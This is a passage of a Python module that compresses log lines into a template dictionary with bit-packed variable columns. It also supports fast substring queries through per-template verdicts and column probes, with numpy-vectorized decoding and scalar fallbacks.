            vals = [fields[i][p] for i in g]
            v0 = vals[0]
            if (
                all(v == v0 for v in vals)
                and not _HAS_DIGIT.search(v0)
                and not _MARKER_RE.search(v0)
            ):
                pieces.append(v0)
                continue
            runs_per_line = [_CLASS_RUN.findall(v) for v in vals]
            pat0 = [_run_class(r) for r in runs_per_line[0]]
            aligned = bool(pat0) and all(
                len(r) == len(pat0)
                and all(_run_class(x) == c for x, c in zip(r, pat0))
                for r in runs_per_line
            )
            if not aligned:
                pieces.append(GEN)
                continue
            for ri, rcls in enumerate(pat0):
                if rcls == "d":
                    pieces.append(DIG)
                    continue
                r0 = runs_per_line[0][ri]
                if all(r[ri] == r0 for r in runs_per_line) and not _MARKER_RE.search(r0):
                    pieces.append(r0)
                elif rcls == "a" and all(
                    r[ri].isascii() and r[ri].islower() for r in runs_per_line  # repro: allow[R4] islower is a *classification* read, not a fold — no index/query asymmetry possible
                ):
                    pieces.append(ALPHA)
                else:
                    pieces.append(GEN)
        merged: list[str] = []
        for pc in pieces:
            if merged and pc in _MARKERS and merged[-1] in _MARKERS:
                merged[-1] = GEN  # adjacent slots collapse into one generic slot
            elif merged and pc not in _MARKERS and merged[-1] not in _MARKERS:
                merged[-1] += pc
            else:
                merged.append(pc)
        templates.append(merged)
    templates.append([GEN])  # catch-all: parses any line
    templates.sort(key="".join)
    return templates


# -- matching -------------------------------------------------------------------------


def match(template: list[str], line: str) -> "list[str] | None":
    """Greedy parse of ``line`` against ``template``; the slot values on
    success (re-rendering them through the template reproduces ``line``
    exactly), ``None`` on mismatch."""
    vs: list[str] = []
    pos = 0
    n = len(template)
    for k, piece in enumerate(template):
        if piece not in _MARKERS:
            if not line.startswith(piece, pos):
                return None
            pos += len(piece)
            continue
        if k + 1 == n:
            v = line[pos:]
            pos = len(line)
        else:
            idx = line.find(template[k + 1], pos)
            if idx < 0:
                return None
            v = line[pos:idx]
            pos = idx
        if piece == DIG and not (v and v.isdigit()):
            return None
        if piece == ALPHA and not (
            v and v.isascii() and v.islower()  # repro: allow[R4] classification read, not a fold
        ):
            return None
        if piece == ALPHA and not v.isalpha():
            return None
        vs.append(v)
    return vs if pos == len(line) else None


def specificity_order(templates: list[list[str]]) -> list[int]:
    """Template indices, most constant text first — parse attempts in this
    order bind each line to its most specific template."""
    return sorted(
        range(len(templates)),
        key=lambda t: -sum(len(p) for p in templates[t] if p not in _MARKERS),
    )


def parse_lines(
    templates: list[list[str]], order: list[int], lines: list[str]
) -> "list[tuple[int, list[str]]] | None":
    """Parse every line against the dictionary in the given template order;
    ``None`` if any line matches no tried template.  The encoder passes a
    *strict* order (catch-all excluded) to detect dictionaries that no
    longer fit the stream — a catch-all hit must trigger re-mining, not
    silently store whole lines as one variable."""
    out: list[tuple[int, list[str]]] = []
    for ln in lines:
        for tid in order:
            vs = match(templates[tid], ln)
            if vs is not None:
                out.append((tid, vs))
                break
        else:
            return None
    return out


def slot_kinds(template: list[str]) -> list[str]:
    return [p for p in template if p in _MARKERS]


# -- bit packing ----------------------------------------------------------------------


class _BitWriter:
    __slots__ = ("acc", "n", "out")

    def __init__(self) -> None:
        self.acc = 0
        self.n = 0
        self.out = bytearray()

    def put(self, val: int, bits: int) -> None:
        self.acc |= val << self.n
        self.n += bits
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def getvalue(self) -> bytes:
        if self.n:
            self.out.append(self.acc & 0xFF)
            self.acc = 0
            self.n = 0
        return bytes(self.out)


class _BitReader:
    __slots__ = ("buf", "acc", "n", "pos")

    def __init__(self, buf: bytes) -> None:
        self.buf = buf
        self.acc = 0
        self.n = 0
        self.pos = 0

    def get(self, bits: int) -> int:
        while self.n < bits:
            self.acc |= self.buf[self.pos] << self.n
            self.pos += 1
            self.n += 8
        v = self.acc & ((1 << bits) - 1)
        self.acc >>= bits
        self.n -= bits
        return v


_DIG_BITS = [(10**L - 1).bit_length() for L in range(64)]
_AL_BITS = [(26**L - 1).bit_length() for L in range(64)]
_A_ORD = 97


def _dig_bits(length: int) -> int:
    return _DIG_BITS[length] if length < 64 else (10**length - 1).bit_length()


def _al_bits(length: int) -> int:
    return _AL_BITS[length] if length < 64 else (26**length - 1).bit_length()


def _alpha_int(v: str) -> int:
    x = 0
    for ch in v:
        x = x * 26 + (ord(ch) - _A_ORD)
    return x


_ALPHABET = "abcdefghijklmnopqrstuvwxyz"


def _alpha_str(x: int, length: int) -> str:
    out = []
    for _ in range(length):
        x, r = divmod(x, 26)
        out.append(_ALPHABET[r])
    out.reverse()
    return "".join(out)


# -- variables blob -------------------------------------------------------------------


def encode_vars(
    templates: list[list[str]], parsed: list[tuple[int, list[str]]]
) -> bytes:
    """Encode per-line template ids + slot values, column order."""
    n = len(parsed)
    by_tpl: list[list[int]] = [[] for _ in templates]
    for i, (t, _) in enumerate(parsed):
        by_tpl[t].append(i)
    lens = bytearray()
    other: list[bytes] = []
    bw = _BitWriter()
    for t, idxs in enumerate(by_tpl):
        if not idxs:
            continue
        kinds = slot_kinds(templates[t])
        for s, kind in enumerate(kinds):
            for i in idxs:
                v = parsed[i][1][s]
                b = v.encode("utf-8")
                length = len(b)
                if length < 255:
                    lens.append(length)
                else:
                    lens.append(255)
                    lens += struct.pack("<I", length)
                if kind == DIG:
                    bw.put(int(v), _dig_bits(length))
                elif kind == ALPHA:
                    bw.put(_alpha_int(v), _al_bits(length))
                else:
                    other.append(b)
    main = _deflate(
        struct.pack("<I", n)
        + bytes(t for t, _ in parsed)
        + bytes(lens)
        + b"".join(other)
    )
    return struct.pack("<I", len(main)) + main + bw.getvalue()


def decode_ids(vars_blob: "bytes | memoryview") -> list[int]:
    """Per-line template ids only — no value decoding (the query fast path
    fans template verdicts out by id without touching variables)."""
    blob = bytes(vars_blob)
    (main_len,) = struct.unpack_from("<I", blob)
    main = _inflate(blob[4 : 4 + main_len])
    (n,) = struct.unpack_from("<I", main)
    return list(main[4 : 4 + n])


def decode_vars(
    templates: list[list[str]], vars_blob: "bytes | memoryview"
) -> tuple[list[int], list[list[str]]]:
    """Inverse of :func:`encode_vars`."""
    blob = bytes(vars_blob)
    (main_len,) = struct.unpack_from("<I", blob)
    main = _inflate(blob[4 : 4 + main_len])
    br = _BitReader(blob[4 + main_len :])
    (n,) = struct.unpack_from("<I", main)
    tpl_of = list(main[4 : 4 + n])
    pos = 4 + n
    by_tpl: list[list[int]] = [[] for _ in templates]
    for i, t in enumerate(tpl_of):
        by_tpl[t].append(i)
    kinds_of = [slot_kinds(t) for t in templates]
    total_vals = sum(len(kinds_of[t]) * len(by_tpl[t]) for t in range(len(templates)))
    all_lens: list[int] = []
    for _ in range(total_vals):
        length = main[pos]
        pos += 1
        if length == 255:
            (length,) = struct.unpack_from("<I", main, pos)
            pos += 4
        all_lens.append(length)
    vars_of: list[list[str]] = [[""] * len(kinds_of[t]) for t in tpl_of]
    vi = 0
    for t, idxs in enumerate(by_tpl):
        if not idxs:
            continue
        for s, kind in enumerate(kinds_of[t]):
            for i in idxs:
                length = all_lens[vi]
                vi += 1
                if kind == DIG:
                    vars_of[i][s] = str(br.get(_dig_bits(length))).zfill(length)
                elif kind == ALPHA:
                    vars_of[i][s] = _alpha_str(br.get(_al_bits(length)), length)
                else:
                    vars_of[i][s] = main[pos : pos + length].decode("utf-8", "replace")
                    pos += length
    return tpl_of, vars_of


def render(template: list[str], values: list[str]) -> str:
    it = iter(values)
    return "".join(next(it) if p in _MARKERS else p for p in template)


# -- vectorized columnar decode -------------------------------------------------------

_DIG_BITS_NP = np.array([(10**L - 1).bit_length() for L in range(256)], dtype=np.int64)
_AL_BITS_NP = np.array([(26**L - 1).bit_length() for L in range(256)], dtype=np.int64)
_GATHER16 = np.arange(16, dtype=np.int64)
# digit/letter extraction powers for the vectorized renderers; the 63-bit
# width cap bounds DIG values below 10**19 and ALPHA below 26**14
_POW10 = 10 ** np.arange(19, dtype=np.int64)
_POW26 = 26 ** np.arange(14, dtype=np.int64)

#: widest packed int the two-word gather can extract (and mask with u64 math)
_MAX_PACK_BITS = 63

#: memo-miss sentinel (``None`` is a meaningful cached probe result)
_MISS = object()


class _Unsupported(Exception):
    """Blob shape outside the vectorized decoder (≥255-byte values or >63-bit
    packed ints) — the scalar big-int decoder handles it instead."""


class TemplateDict(list):
    """A decoded dictionary: a plain ``list[list[str]]`` plus a slot where
    :class:`PayloadColumns` memoizes the dictionary-static part of the value
    layout (column order, slot kinds, render formats).  Every blob sharing a
    dictionary shares the decoded object (``decode_dict`` caches), so the
    static layout computes once per dictionary, not once per batch."""

    __slots__ = ("cols_cache",)

    def __init__(self, *a: "list[list[str]]") -> None:
        super().__init__(*a)
        self.cols_cache: dict[bytes, tuple] = {}


class PayloadColumns:
    """Column-lazy vectorized view of one variables blob.

    Construction parses only the cheap header — per-line template ids and
    member counts — which is all a fully-NO-verdict batch ever needs.  The
    full skeleton (value lengths, per-column offsets into the GEN byte
    region and the bit-packed tail) parses lazily on the first rendering
    request, and columns decode lazily per template, so the query prepass
    (``linefilter._tpl_prepass``) emits YES-template lines and byte-scans
    undecided ones without materializing whole payloads.
    :func:`reconstruct_lines` uses the same path with every template
    selected.  Byte-identical to the scalar decoder, which remains as the
    fallback for the shapes :class:`_Unsupported` names — rendering raises
    it lazily, callers route those blobs to the scalar path.
    """

    def __init__(
        self, templates: list[list[str]], vars_blob: "bytes | memoryview"
    ) -> None:
        blob = bytes(vars_blob)
        (main_len,) = struct.unpack_from("<I", blob)
        main = _inflate(blob[4 : 4 + main_len])
        self._main = main
        self._tail_bytes = blob[4 + main_len :]
        self.templates = templates
        (self.n,) = struct.unpack_from("<I", main)
        self.tpl_of = np.frombuffer(main, dtype=np.uint8, count=self.n, offset=4)
        self.counts = np.bincount(self.tpl_of, minlength=len(templates))
        self._laid_out = False
        self._vals: "list[str] | None" = None
        self._tpl_lines: dict[int, list[str]] = {}
        self._probe_memo: "dict[tuple[int, str], np.ndarray | None]" = {}
        self._lines_memo: "dict[tuple[int, ...], tuple[np.ndarray, list[str]]]" = {}

    @property
    def counts_l(self) -> list[int]:
        """Member counts as a plain list — cheaper than numpy indexing for
        the per-template triage loops (a dictionary holds tens of ids)."""
        got = self.__dict__.get("_counts_l")
        if got is None:
            got = self.__dict__["_counts_l"] = self.counts.tolist()
        return got

    def _layout(self) -> None:
        """Parse the full value skeleton (lazy; :class:`_Unsupported` here
        means the caller must use the scalar decoder)."""
        if self._laid_out:
            return
        main, templates = self._main, self.templates
        order = np.argsort(self.tpl_of, kind="stable")
        starts = np.zeros(len(self.counts) + 1, dtype=np.int64)
        np.cumsum(self.counts, out=starts[1:])
        self._member_order = order
        self._member_starts = starts
        # dictionary-static layout: column order (template-major, then
        # slot-major), slot kinds, and render formats.  Keyed by the
        # template-presence pattern (absent templates contribute no columns)
        # and memoized on the shared decoded dictionary when there is one.
        cache = getattr(templates, "cols_cache", None)
        key = (self.counts > 0).tobytes()
        ent = None if cache is None else cache.get(key)
        if ent is None:
            col_t: list[int] = []
            col_kind: list[str] = []
            cols_of: list[list[int]] = [[] for _ in templates]
            counts_l = self.counts.tolist()
            for t, tpl in enumerate(templates):
                if not counts_l[t]:
                    continue
                for k in slot_kinds(tpl):
                    cols_of[t].append(len(col_t))
                    col_t.append(t)
                    col_kind.append(k)
            ent = (
                np.asarray(col_t, dtype=np.int64),
                col_kind,
                cols_of,
                np.asarray(
                    [0 if k == GEN else 1 if k == DIG else 2 for k in col_kind],
                    dtype=np.int64,
                ),
                [
                    "".join(
                        "%s" if p in _MARKERS else p.replace("%", "%%") for p in tpl
                    )
                    for tpl in templates
                ],
            )
            if cache is not None:
                cache[key] = ent
        col_t_arr, col_kind, cols_of, kinds, fmts = ent
        self._col_kind = col_kind
        self._cols_of = cols_of
        self._fmts = fmts
        col_counts = (
            self.counts[col_t_arr] if col_t_arr.size else np.zeros(0, dtype=np.int64)
        )
        total = int(col_counts.sum())
        lens8 = np.frombuffer(main, dtype=np.uint8, count=total, offset=4 + self.n)
        if total and int(lens8.max()) == 255:
            raise _Unsupported  # u32 length extension shifts the whole layout
        lens = lens8.astype(np.int64)
        self._lens = lens
        col_off = np.zeros(col_t_arr.size + 1, dtype=np.int64)
        np.cumsum(col_counts, out=col_off[1:])
        self._col_off = col_off
        kind_code = (
            np.repeat(kinds, col_counts)
            if col_t_arr.size
            else np.zeros(0, dtype=np.int64)
        )
        widths = np.zeros(total, dtype=np.int64)
        dig = kind_code == 1
        alp = kind_code == 2
        widths[dig] = _DIG_BITS_NP[lens[dig]]
        widths[alp] = _AL_BITS_NP[lens[alp]]
        if widths.size and int(widths.max()) > _MAX_PACK_BITS:
            raise _Unsupported
        bitpos = np.zeros(total + 1, dtype=np.int64)
        np.cumsum(widths, out=bitpos[1:])
        self._widths = widths
        self._bitpos = bitpos
        gen_off = np.zeros(total + 1, dtype=np.int64)
        np.cumsum(np.where(kind_code == 0, lens, 0), out=gen_off[1:])
        self._gen_off = gen_off
        self._gen_base = 4 + self.n + total
        self._kind_code = kind_code
        # +16 zero bytes let the two-word little-endian gather read past the end
        self._tail = np.frombuffer(self._tail_bytes + b"\x00" * 16, dtype=np.uint8)
        region = main[self._gen_base : self._gen_base + int(gen_off[-1])]
        # ASCII GEN region: decode once, slice values as str (byte == char);
        # otherwise decode per value, matching the scalar decoder byte-for-byte
        self._gen_str: "str | None" = region.decode("ascii") if region.isascii() else None
        self._laid_out = True

    def _bits(self, idx: np.ndarray) -> np.ndarray:
        """Bit-packed tail values for the value-slot indices ``idx`` — one
        gather of 16 little-endian bytes per value; the second word supplies
        the bits a non-zero shift pushes past the first (widths ≤ 63)."""
        p = self._bitpos[idx]
        w = self._widths[idx]
        words = self._tail[np.add.outer(p >> 3, _GATHER16)].copy().view("<u8")
        sh = (p & 7).astype(np.uint64)
        lo = words[:, 0] >> sh
        # hi << (64 - sh) without the sh == 0 undefined shift: two steps
        hi = (words[:, 1] << (np.uint64(63) - sh)) << np.uint64(1)
        mask = (np.uint64(1) << w.astype(np.uint64)) - np.uint64(1)
        return ((lo | hi) & mask).astype(np.int64)

    def _values(self) -> list[str]:
        """Every slot value as a string, in blob value order (template-major,
        slot-major, member-ascending).  One vectorized pass per value class:
        digit and letter columns extract into a master ASCII string each and
        every value is a cheap slice of it; GEN values slice the region
        string.  Cached — rendering and probing share the decode."""
        got = self._vals
        if got is not None:
            return got
        self._layout()
        lens = self._lens
        kc = self._kind_code
        out: list[str] = [""] * lens.size
        gsel = np.flatnonzero(kc == 0)
        if gsel.size:
            gs = self._gen_off[gsel].tolist()
            gl = lens[gsel].tolist()
            if self._gen_str is not None:
                g = self._gen_str
                for i, x, L in zip(gsel.tolist(), gs, gl):
                    out[i] = g[x : x + L]
            else:
                m, base = self._main, self._gen_base
                for i, x, L in zip(gsel.tolist(), gs, gl):
                    out[i] = m[base + x : base + x + L].decode("utf-8", "replace")
        for code, ch0, pows, radix in ((1, 48, _POW10, 10), (2, 97, _POW26, 26)):
            sel = np.flatnonzero(kc == code)
            if not sel.size:
                continue
            vl = lens[sel]
            # most-significant-first digit/letter extraction, all values at
            # once, with a separator char appended per value so one C-level
            # split yields every value string (e == -1 marks the separator)
            vl1 = vl + 1
            within = np.arange(int(vl1.sum()), dtype=np.int64) - np.repeat(
                np.cumsum(vl1) - vl1, vl1
            )
            e = np.repeat(vl, vl1) - 1 - within
            vr = np.repeat(self._bits(sel), vl1)
            chars = np.where(e >= 0, ch0 + (vr // pows[e]) % radix, 10)
            parts = chars.astype(np.uint8).tobytes().decode("ascii").split("\n")
            for i, v in zip(sel.tolist(), parts):
                out[i] = v
        self._vals = out
        return out

    def _render_tpl(self, t: int) -> list[str]:
        got = self._tpl_lines.get(t)
        if got is not None:
            return got
        self._layout()
        tpl = self.templates[t]
        k = int(self.counts[t])
        if not self._cols_of[t]:
            out = ["".join(tpl)] * k
        else:
            vals = self._values()
            bases = [int(self._col_off[c]) for c in self._cols_of[t]]
            fmt = self._fmts[t]
            out = [fmt % row for row in zip(*(vals[b : b + k] for b in bases))]
        self._tpl_lines[t] = out
        return out

    def blob_bytes(self) -> bytes:
        """The newline-joined member lines in original line order — the raw
        codec's exact payload bytes.  Raises :class:`_Unsupported` like the
        renderers."""
        if self.n == 0:
            return b""
        _, lines = self.lines_for(range(len(self.templates)))
        return "\n".join(lines).encode("utf-8")

    def members(self, t: int) -> np.ndarray:
        """Global line indices of template ``t``'s member lines, ascending —
        the same order the value columns store them in."""
        self._layout()
        return self._member_order[self._member_starts[t] : self._member_starts[t + 1]]

    def probe_cached(
        self, t: int, entries: "list[tuple[str, int, str, str]]", needle: str
    ) -> "np.ndarray | None":
        """:meth:`probe_members` memoized per (template, needle) — repeated
        queries of a cached columns view skip the probe arithmetic (the
        entries derive from (dictionary, needle), so the key is complete)."""
        key = (t, needle)
        got = self._probe_memo.get(key, _MISS)
        if got is _MISS:
            got = self.probe_members(t, entries, needle)
            self._probe_memo[key] = got
        return got  # type: ignore[return-value]

    def probe_members(
        self, t: int, entries: "list[tuple[str, int, str, str]]", needle: str
    ) -> "np.ndarray | None":
        """Execute a probe plan (:func:`probe_plans`) against template ``t``:
        member positions whose slot values contain the needle, exactly.
        ``None`` when this blob's GEN region is non-ASCII (the folded-line
        semantics then exceed the byte-level probe — caller falls back to
        the rendered scan).  Raises :class:`_Unsupported` like the
        renderers."""
        self._layout()
        nl = len(needle)
        cols = self._cols_of[t]
        k = int(self.counts[t])
        hit = np.zeros(k, dtype=bool)
        for kind, s, ctx_l, ctx_r in entries:
            a = int(self._col_off[cols[s]])
            ls = self._lens[a : a + k]
            if kind == "gen":
                if self._gen_str is None:
                    return None
                gl = self._gen_lower
                cand = np.flatnonzero(ls + (len(ctx_l) + len(ctx_r)) >= nl)
                if cand.size:
                    offs = self._gen_off[a : a + k]
                    for j, x, L in zip(
                        cand.tolist(), offs[cand].tolist(), ls[cand].tolist()
                    ):
                        if needle in f"{ctx_l}{gl[x : x + L]}{ctx_r}":
                            hit[j] = True
                continue
            # DIG/ALPHA: substring match arithmetically on the packed ints —
            # a window of nl digits (letters) starting s places from the
            # right is (v // radix**s) % radix**nl, and left-padding zeros
            # ("0"/"a") are exactly what the division yields past v's
            # magnitude.  No string ever materializes.
            cand = np.flatnonzero(ls >= nl)
            if cand.size:
                radix, tgt = (10, int(needle)) if kind == "dig" else (
                    26, _alpha_int(needle))
                v = self._bits(a + cand)
                L = ls[cand]
                win = radix**nl
                m = np.zeros(cand.size, dtype=bool)
                for s0 in range(int(L.max()) - nl + 1):
                    m |= (L - nl >= s0) & ((v // radix**s0) % win == tgt)
                hit[cand[m]] = True
        return np.flatnonzero(hit)

    @property
    def _gen_lower(self) -> str:
        got = self.__dict__.get("_gen_lower_s")
        if got is None:
            assert self._gen_str is not None
            got = self._gen_str.lower()  # repro: allow[R4] ASCII region fold — per-value slices equal the folded line's value text
            self.__dict__["_gen_lower_s"] = got
        return got

    def lines_for(self, tids: "Iterable[int]") -> "tuple[np.ndarray, list[str]]":
        """``(global line indices, rendered lines)`` for the member lines of
        the given template ids, in ascending line order; memberless templates
        contribute nothing.  Raises :class:`_Unsupported` for blob shapes
        only the scalar decoder handles."""
        counts_l = self.counts_l
        sel = [t for t in (int(x) for x in tids) if counts_l[t]]
        if not sel:
            return np.empty(0, dtype=np.int64), []
        key = tuple(sel)
        got = self._lines_memo.get(key)
        if got is not None:
            return got
        self._layout()
        idx_parts: list[np.ndarray] = []
        line_parts: list[str] = []
        order, starts = self._member_order, self._member_starts
        for t in sel:
            idx_parts.append(order[starts[t] : starts[t + 1]])
            line_parts.extend(self._render_tpl(t))
        idx = np.concatenate(idx_parts)
        srt = np.argsort(idx, kind="stable")
        out = idx[srt], [line_parts[j] for j in srt.tolist()]
        self._lines_memo[key] = out
        return out


# -- dictionary blob ------------------------------------------------------------------


def encode_dict(templates: list[list[str]]) -> bytes:
    return _deflate("\n".join("".join(t) for t in templates).encode("utf-8"))


def decode_dict(dict_blob: "bytes | memoryview") -> list[list[str]]:
    """Parse a dictionary blob.  Cached: stores hold few unique dictionaries
    (consecutive batches of one source share theirs byte-identically), so
    repeated reconstruction hits the parse once per blob."""
    return _decode_dict_cached(bytes(dict_blob))


@lru_cache(maxsize=512)
def _decode_dict_cached(dict_blob: bytes) -> list[list[str]]:
    text = _inflate(dict_blob).decode("utf-8")
    templates: TemplateDict = TemplateDict()
    for rendered in text.split("\n"):
        pieces: list[str] = []
        pos = 0
        for m in _MARKER_RE.finditer(rendered):
            if m.start() > pos:
                pieces.append(rendered[pos : m.start()])
            pieces.append(m.group(0))
            pos = m.end()
        if pos < len(rendered) or not pieces:
            pieces.append(rendered[pos:])
        templates.append(pieces)
    return templates


def reconstruct_lines(
    templates: list[list[str]], vars_blob: "bytes | memoryview"
) -> list[str]:
    try:
        cols = PayloadColumns(templates, vars_blob)
        return cols.lines_for(range(len(templates)))[1]
    except _Unsupported:  # scalar fallback for shapes the columnar parser rejects
        tpl_of, vars_of = decode_vars(templates, vars_blob)
        return [render(templates[t], vs) for t, vs in zip(tpl_of, vars_of)]


def reconstruct_blob(
    dict_blob: "bytes | memoryview", vars_blob: "bytes | memoryview"
) -> bytes:
    """The exact bytes the raw codec would have stored (lines joined with
    ``"\\n"``) — the identity the whole refactor preserves."""
    templates = decode_dict(dict_blob)
    try:
        return PayloadColumns(templates, vars_blob).blob_bytes()
    except _Unsupported:  # scalar fallback, same bytes
        tpl_of, vars_of = decode_vars(templates, vars_blob)
        lines = [render(templates[t], vs) for t, vs in zip(tpl_of, vars_of)]
        return "\n".join(lines).encode("utf-8")


# -- constant-needle verdicts (the "match constants once per template" path) ----------

_ALNUM_CH = frozenset(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
)


def constant_verdicts(
    dict_blob: "bytes | memoryview", needle: str, is_term: bool
) -> np.ndarray:
    """Per-template verdicts for a case-folded needle: ``1`` = every line of
    the template matches, ``-1`` = no line can, ``0`` = undecided.

    A pure function of the dictionary blob and the needle — cached across
    calls like the dictionary parse itself (this is the "match constants
    once per template" contract: per-line payload work stays per-call, the
    per-*dictionary* match does not).  The returned array is read-only.

    YES requires the match to lie entirely inside one constant piece — slot
    values are unconstrained text, so an occurrence touching a slot is never
    guaranteed to exist in every line.  For Term the in-piece neighbors must
    be non-alnum, or the occurrence must sit at a line edge (first/last
    piece).  NO holds when no constant piece contains an occurrence *and* no
    slot could hide or extend one: a slot only interacts with an occurrence
    if the needle has at least one character the slot's value class can
    produce (GEN is unconstrained and always blocks; DIG values are digits;
    ALPHA values are ``a-z`` — both non-empty by ``match``), otherwise every
    occurrence in the folded line lies inside one constant piece, which the
    piece loop already searched.  Verdicts mirror the byte-level slab scan
    exactly on ASCII; non-ASCII lines always take the exact per-line path
    anyway (linefilter module docstring), so the Unicode seams cannot
    surface.
    """
    return _verdicts_cached(bytes(dict_blob), needle, is_term)


@lru_cache(maxsize=4096)
def _verdicts_cached(dict_blob: bytes, needle: str, is_term: bool) -> np.ndarray:
    templates = decode_dict(dict_blob)
    out = np.zeros(len(templates), dtype=np.int8)
    nl = len(needle)
    needle_digit = any("0" <= ch <= "9" for ch in needle)
    needle_alpha = any("a" <= ch <= "z" for ch in needle)
    for ti, tpl in enumerate(templates):
        yes = False
        for pi, piece in enumerate(tpl):
            if yes or piece in _MARKERS:
                continue
            hay = piece.lower()  # repro: allow[R4] verdict-side fold paired with the slab's ASCII lower_buf fold; non-ASCII lines take the exact path regardless
            pos = hay.find(needle)
            while pos >= 0 and not yes:
                if not is_term:
                    yes = True
                    break
                left_edge = pos == 0
                right_edge = pos + nl == len(hay)
                left_ok = (left_edge and pi == 0) or (
                    not left_edge and hay[pos - 1] not in _ALNUM_CH
                )
                right_ok = (right_edge and pi == len(tpl) - 1) or (
                    not right_edge and hay[pos + nl] not in _ALNUM_CH
                )
                yes = left_ok and right_ok
                pos = hay.find(needle, pos + 1)
        if yes:
            out[ti] = 1
            continue
        blocked = any(
            p == GEN
            or (p == DIG and needle_digit)
            or (p == ALPHA and needle_alpha)
            for p in tpl
            if p in _MARKERS
        )
        if not blocked:
            out[ti] = -1
    out.setflags(write=False)
    return out


# -- column probes: resolving undecided templates without rendering ------------------
#
# An undecided Contains verdict means the needle is absent from the template's
# constants but some slot could hide (or extend) an occurrence.  For a plain
# Contains needle those remaining occurrences are localized: they must overlap
# at least one slot value, and mine()'s class-run structure bounds how far they
# can reach.  A *probe plan* records, per template, exactly which slots need a
# per-value check and with how much constant context; executing the plan
# decides every member line exactly, no line rendering or byte scan required.
#
# Soundness (ASCII needles; non-ASCII needles never build plans):
#
# * verdict 0 ⇒ no occurrence lies wholly inside a constant piece (the verdict
#   loop searched every folded piece), so every occurrence overlaps ≥ 1 slot.
# * DIG/ALPHA slots: class runs guarantee the *raw* neighbor characters are
#   outside the slot's class, and the plan re-checks the *folded* neighbors
#   (str.lower can materialize ASCII letters out of non-ASCII ones), so a
#   single-class needle occurrence overlapping the slot lies entirely inside
#   the value — a per-value substring test.  Mixed-class needles make these
#   slots unsafe and the template falls back to the rendered byte scan.
# * GEN slots: an occurrence overlapping the value lies within
#   ``ctxL + value + ctxR`` where the contexts are the adjacent constants'
#   folded edges (needle_len-1 characters); if another slot sits closer than
#   that, the template is unsafe.  Folded-piece context equals the folded
#   line's text around the value for ASCII needles (case folds are
#   context-free up to non-ASCII sigma forms, which an ASCII needle never
#   includes), and empty GEN values make the contexts exactly adjacent, which
#   the composite reproduces.


def _probe_ctx(tpl: list[str], k: int, want: int, left: bool) -> "str | None":
    """Folded constant context of the slot at piece ``k``: up to ``want``
    characters, or ``None`` when another slot sits within reach."""
    if want <= 0:
        return ""
    j = k - 1 if left else k + 1
    if j < 0 or j >= len(tpl):
        return ""  # line edge: occurrences cannot extend past it
    piece = tpl[j]
    if piece in _MARKERS:
        return None  # adjacent slot: the occurrence could span two slots
    hay = piece.lower()  # repro: allow[R4] probe context is built from the folded piece, the same fold the exact path applies to the whole line
    if len(hay) >= want:
        return hay[-want:] if left else hay[:want]
    # short constant: safe only if the line ends right behind it
    edge = (j == 0) if left else (j == len(tpl) - 1)
    return hay if edge else None


def _probe_edge_safe(tpl: list[str], k: int, needle: str) -> bool:
    """True when no folded constant character adjacent to slot ``k`` belongs
    to the needle's class — i.e. occurrences cannot extend past the value."""
    for j, take_last in ((k - 1, True), (k + 1, False)):
        if 0 <= j < len(tpl):
            hay = tpl[j].lower()  # repro: allow[R4] folded-neighbor classification, mirroring the folded line the exact path sees
            if not hay:
                return False  # defensive: empty constants never occur
            ch = hay[-1] if take_last else hay[0]
            if needle.isdigit():
                if "0" <= ch <= "9":
                    return False
            else:
                if "a" <= ch <= "z":
                    return False
    return True


@lru_cache(maxsize=4096)
def probe_plans(
    dict_blob: bytes, needle: str
) -> "list[list[tuple[str, int, str, str]] | None]":
    """Per-template probe plans for a folded ASCII Contains needle: a list of
    ``(kind, slot_ordinal, ctxL, ctxR)`` checks, or ``None`` when the
    template cannot be probed safely (see the soundness notes above).
    Cached across calls like the verdicts — a pure dictionary property."""
    templates = decode_dict(dict_blob)
    nl = len(needle)
    pure_alpha = bool(needle) and all("a" <= c <= "z" for c in needle)
    pure_digit = bool(needle) and needle.isdigit() and needle.isascii()
    has_alpha = any("a" <= c <= "z" for c in needle)
    has_digit = any("0" <= c <= "9" for c in needle)
    plans: "list[list[tuple[str, int, str, str]] | None]" = []
    for tpl in templates:
        entries: "list[tuple[str, int, str, str]]" = []
        ok = True
        slot_ord = -1
        for k, piece in enumerate(tpl):
            if piece not in _MARKERS:
                continue
            slot_ord += 1
            if piece == DIG and not has_digit:
                continue  # a digit-free needle cannot touch digit values
            if piece == ALPHA and not has_alpha:
                continue
            if piece == DIG:
                if not pure_digit or not _probe_edge_safe(tpl, k, needle):
                    ok = False
                    break
                entries.append(("dig", slot_ord, "", ""))
            elif piece == ALPHA:
                if not pure_alpha or not _probe_edge_safe(tpl, k, needle):
                    ok = False
                    break
                entries.append(("alpha", slot_ord, "", ""))
            else:
                ctx_l = _probe_ctx(tpl, k, nl - 1, left=True)
                ctx_r = _probe_ctx(tpl, k, nl - 1, left=False)
                if ctx_l is None or ctx_r is None:
                    ok = False
                    break
                entries.append(("gen", slot_ord, ctx_l, ctx_r))
        plans.append(entries if ok else None)
    return plans


# -- codec seam -----------------------------------------------------------------------


class PayloadCodec:
    """Seal-time payload representation (selected per store, recorded in the
    manifest; see docs/persistence.md)."""

    name: str = "?"

    def seal(self, group: str, lines: list[str]) -> "tuple[bytes, bytes | None]":
        """``(payload, dict_blob)`` for one sealed batch.  ``dict_blob`` is
        ``None`` for codecs without a template dictionary."""
        raise NotImplementedError


class RawCodec(PayloadCodec):
    """Pre-refactor representation: one compressed blob of the joined lines."""

    name = "raw"

    def seal(self, group: str, lines: list[str]) -> "tuple[bytes, bytes | None]":
        from .batch import compress

        return compress("\n".join(lines).encode("utf-8")), None


def merge_dicts(
    old: list[list[str]], new: list[list[str]]
) -> list[list[str]]:
    """Union of two template dictionaries (dedup by pieces, re-sorted the way
    :func:`mine` sorts).  Resets to ``new`` when the union would overflow
    ``MAX_TEMPLATES`` — a stream that diverse has outgrown its history."""
    seen: set[tuple[str, ...]] = set()
    merged: list[list[str]] = []
    for tpl in old + new:
        key = tuple(tpl)
        if key not in seen:
            seen.add(key)
            merged.append(tpl)
    if len(merged) > MAX_TEMPLATES:
        return new
    merged.sort(key="".join)
    return merged


class TemplateCodec(PayloadCodec):
    """Template dictionary + variable columns.

    Stateful: one store-global dictionary accumulates the union of every
    mined template, so batches across *all* groups converge on one blob the
    flush layer dedups into a single file slice (sources share shapes far
    more than a per-group split can exploit — most groups seal only one
